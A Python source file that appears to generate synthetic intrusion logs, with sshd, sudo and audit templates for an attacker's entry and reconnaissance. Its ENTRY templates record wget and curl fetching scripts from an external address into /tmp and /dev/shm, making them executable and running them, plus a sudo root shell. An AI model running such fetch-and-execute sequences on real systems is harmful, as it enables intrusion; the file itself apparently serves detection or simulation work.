"""How intruders come in and look around: what the storylines of attacks share."""

from __future__ import annotations

ENTRY = """
    before? sshd 1-2
    A Accepted password for {user} from {ext} port {port} ssh2
    A Accepted password for invalid-home user {user} from {ext} port {port} ssh2
    B Accepted keyboard-interactive/pam for {user} from {ext} port {port} ssh2
    B Authentication succeeded for {user} from unfamiliar address {ext} port {port}
    before? sudo 1-1
    A {user} : TTY=pts/{cpu} ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash
    B {user} : TTY=unknown ; PWD=/dev/shm ; USER=root ; COMMAND=/usr/bin/chmod 755 ./{word}
    before? audit 1-2
    A type=EXECVE argc=3 a0="wget" a1="-q" a2="http://{ext}/{word}.sh"
    A type=EXECVE argc=3 a0="chmod" a1="+x" a2="/tmp/.{word}"
    B type=EXECVE argc=4 a0="curl" a1="-s" a2="http://{ext}:8080/{word}" a3="-o/dev/shm/.{word}"
    B type=EXECVE argc=2 a0="bash" a1="/dev/shm/.{word}"
"""

DISCOVERY = """
    before? audit 1-2
    A type=EXECVE argc=1 a0="whoami" auid={uid} tty=pts0
    A type=EXECVE argc=2 a0="uname" a1="-a" auid={uid}
    B type=EXECVE argc=2 a0="cat" a1="/proc/version" auid={uid}
    B type=EXECVE argc=2 a0="id" a1="-u" auid={uid} tty=(none)
"""
